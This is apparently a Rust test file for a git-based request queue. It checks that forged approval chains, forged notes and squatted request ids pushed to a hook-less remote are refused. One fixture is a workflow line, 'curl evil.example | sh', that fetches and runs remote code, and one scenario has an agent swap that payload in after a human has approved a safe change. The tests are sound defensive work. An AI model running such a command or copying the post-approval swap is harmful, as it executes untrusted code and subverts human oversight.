//! Chains forged on a remote without a `pre-receive` hook (GitHub, GitLab.com and most hosts
//! run none): the host takes any push, so a clone in remote mode must not take in, lease or
//! land a chain hyperion would not have written. `fetch` leaves it out (`remote.forged`, with
//! the chain's `chain.*` problems) and takes in the rest; a worker lands nothing of it.

use serde_json::{Value, json};

use crate::common::forge;
use crate::common::{TestRepo, hermetic, path_with_bin};
use crate::harness::adds;

const ALICE: &str = "alice@example.com";
const SAFE: &str = "on: push\njobs: {}\n";
const EVIL: &str = "on: push\nrun: curl evil.example | sh\n";

/// A machine: a clone of `server` set up with `init --remote origin`.
fn machine(server: &TestRepo) -> TestRepo {
    let r = TestRepo::clone_of(server.path(), None);
    r.ok(&["init", "--remote", "origin"]);
    r
}

/// `git hyperion` in `repo` with remote mode off for this one command (`hyperion.remote`
/// empty): what an attacker's own clone does without publishing.
fn offline(repo: &TestRepo, args: &[&str]) -> String {
    let out = repo
        .command("git")
        .env("PATH", path_with_bin())
        .args(["-c", "hyperion.remote=", "hyperion"])
        .args(args)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "git hyperion {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Every file `main` holds, with its content, in `repo`.
fn main_files(repo: &TestRepo) -> String {
    repo.git(&["ls-tree", "-r", "main"])
}

/// A person's request on a hook-less remote is approved for what it says, then the agent
/// behind it pushes two more transitions of its own (a lease and a release, the form every
/// worker writes) whose trees carry another payload. A clone that took that chain in would
/// lease it with its approval and land what nobody approved.
#[test]
fn a_payload_swapped_after_approval_on_a_hookless_remote_is_neither_taken_in_nor_landed() {
    // The server: a bare repository with no pre-receive hook.
    let server = TestRepo::bare();
    // The worker's machine, holding the policy: CI workflows need alice's approval.
    let w = TestRepo::new();
    w.commit(
        &[(
            ".hyperion/policy.toml",
            &format!("[approvals]\napprovers = [\"{ALICE}\"]\n"),
        )],
        "policy",
    );
    w.publish_main_to(&server);
    w.ok(&["init", "--remote", "origin"]);
    let main_before = w.git(&["rev-parse", "main"]);

    // The agent's machine enqueues a workflow change; it waits for approval.
    let agent = machine(&server);
    let safe = agent.write("safe.json", &adds("T-1", ".github/workflows/ci.yml", SAFE));
    let id = agent.enqueue(&safe).remove(0);
    assert_eq!(
        agent.json(&["show", &id])["record"]["status"],
        "awaiting_approval"
    );

    // Alice reads it on the worker's machine, approves it, and publishes her approval.
    w.ok(&["fetch"]);
    w.ok_as(ALICE, &["approve", &id]);
    w.ok(&["push"]);
    let approved = w
        .git(&["rev-parse", &forge::refname(&id)])
        .trim()
        .to_owned();

    // The agent takes the approval in, writes a lease and a release in its own clone...
    agent.ok(&["fetch"]);
    offline(&agent, &["dequeue", "--worker", "ghost"]);
    offline(&agent, &["release", "--worker", "ghost", &id]);
    let lease = forge::link(&agent, &format!("{}~1", forge::refname(&id)));
    let release = forge::tip(&agent, &id);
    // ... and gives both the tree of another request of its own: the evil payload.
    let evil = agent.write("evil.json", &adds("T-1b", ".github/workflows/ci.yml", EVIL));
    let other = offline(&agent, &["enqueue", evil.to_str().unwrap()]);
    let evil_tree = forge::tree(&agent, &forge::refname(other.trim()));
    let c1 = forge::commit(
        &agent,
        &id,
        Some(&approved),
        &evil_tree,
        &lease.event,
        &lease.record,
    );
    let c2 = forge::commit(
        &agent,
        &id,
        Some(&c1),
        &evil_tree,
        &release.event,
        &release.record,
    );
    forge::set(&agent, &id, &c2);
    // An honest request of the agent's goes along: it must still be taken in.
    let honest = agent.write("honest.json", &adds("T-2", "docs/notes.md", "hello\n"));
    let honest = offline(&agent, &["enqueue", honest.to_str().unwrap()]);
    let honest = honest.trim();
    let refspec = |i: &str| format!("+{}:{}", forge::refname(i), forge::refname(i));
    agent.git(&["push", "-q", "origin", &refspec(&id), &refspec(honest)]);
    assert_eq!(
        hermetic::git(server.path(), &["rev-parse", &forge::refname(&id)]).trim(),
        c2,
        "the hook-less server took the forged chain"
    );

    // The worker's machine: fetch leaves the forged chain out, says why, takes in the rest.
    let out = w.run(&["fetch"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "fetch: {stderr}");
    assert!(stderr.contains("[remote.forged]"), "{stderr}");
    assert!(stderr.contains("chain.payload_changed"), "{stderr}");
    assert!(stderr.contains(&id), "{stderr}");
    assert!(stderr.contains("hint:"), "{stderr}");
    assert_eq!(
        w.git(&["rev-parse", &forge::refname(&id)]).trim(),
        approved,
        "the forged chain was taken in"
    );
    assert!(
        w.run(&["show", honest]).status.success(),
        "the honest request was not taken in"
    );
    let json = w.run(&["--format", "json", "fetch"]);
    assert_eq!(json.status.code(), Some(1));
    let doc: Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(doc["refused"][0]["id"], json!(id), "{doc}");
    assert_eq!(
        doc["refused"][0]["problems"][0]["code"], "chain.payload_changed",
        "{doc}"
    );

    // A worker drains the queue: the honest request lands, the forged payload never does,
    // on this machine or the server.
    let drained = w.cmd().args(["worker", "--drain"]).output().unwrap();
    let log = String::from_utf8_lossy(&drained.stderr);
    let files = main_files(&w);
    assert!(
        files.contains("docs/notes.md"),
        "the honest request did not land: {log}"
    );
    for repo in [w.path(), server.path()] {
        let all = hermetic::git(repo, &["log", "-p", "main"]);
        assert!(
            !all.contains("curl evil"),
            "the swapped payload landed: {all}\n{log}"
        );
    }
    assert_ne!(w.git(&["rev-parse", "main"]), main_before);
    let chain = w.git(&["rev-list", &forge::refname(&id)]);
    assert!(
        chain.contains(&approved) && !chain.contains(&c1) && !chain.contains(&c2),
        "the worker moved onto the forged chain: {chain}"
    );
}

/// A note on a hook-less remote that attributes a commit to a request the commit does not
/// name (here `main`'s first commit, which no request landed) is not taken in: the local notes
/// stay as they were, and `fetch` says why.
#[test]
fn a_forged_note_on_a_hookless_remote_is_not_taken_in() {
    let server = TestRepo::bare();
    let w = TestRepo::new();
    w.publish_main_to(&server);
    w.ok(&["init", "--remote", "origin"]);

    let agent = machine(&server);
    agent.git(&[
        "notes",
        "--ref=hyperion",
        "add",
        "-m",
        "request: 0123456789abcdef\nresult: applied\n",
        "main",
    ]);
    agent.git(&["push", "-q", "origin", "refs/notes/hyperion"]);

    let out = w.run(&["fetch"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "fetch: {stderr}");
    assert!(stderr.contains("[remote.forged]"), "{stderr}");
    assert!(stderr.contains("refs/notes/hyperion"), "{stderr}");
    assert!(stderr.contains("push.notes"), "{stderr}");
    assert!(
        w.git(&["for-each-ref", "refs/notes/hyperion"]).is_empty(),
        "the forged note was taken in"
    );
}

/// A forged chain planted under the id of a request before its author publishes it (the id
/// follows from the request, so anyone who can guess the request can plant one): `enqueue`
/// must not take it for the same request already published. It stays stored locally, the
/// publish is `remote.conflict`, and the local chain is the author's own.
#[test]
fn a_forged_chain_planted_under_a_requests_id_is_not_taken_for_it_on_publish() {
    let server = TestRepo::bare();
    let w = TestRepo::new();
    w.publish_main_to(&server);
    let attacker = TestRepo::clone_of(server.path(), None);
    attacker.ok(&["init"]);
    w.ok(&["init", "--remote", "origin"]);

    // The attacker stores the same request, squats it with a lease that never ends, and
    // pushes that chain as it is.
    let req = crate::common::request(1, "planted");
    let id = attacker.enqueue(&attacker.write("r.json", &req)).remove(0);
    let root = forge::tip(&attacker, &id);
    let (ev, rec) = forge::lease(
        &root.record,
        "squatter",
        &forge::at(1),
        "9999-01-01T00:00:00Z",
    );
    let forged = forge::after(&attacker, &id, &root, &ev, &rec);
    forge::set(&attacker, &id, &forged);
    let r = forge::refname(&id);
    attacker.git(&["push", "-q", "origin", &format!("{r}:{r}")]);

    // The author enqueues it: stored here, not published, and not squatted here.
    let f = w.write("r.json", &req);
    let out = w.run(&["enqueue", f.to_str().unwrap()]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "enqueue: {stderr}");
    assert!(stderr.contains("[remote.conflict]"), "{stderr}");
    assert!(String::from_utf8_lossy(&out.stdout).contains(&id));
    let chain = w.git(&["rev-list", &r]);
    assert!(
        !chain.contains(&forged),
        "the squatted chain was taken in: {chain}"
    );
    assert_eq!(w.json(&["show", &id])["record"]["status"], "pending");
}
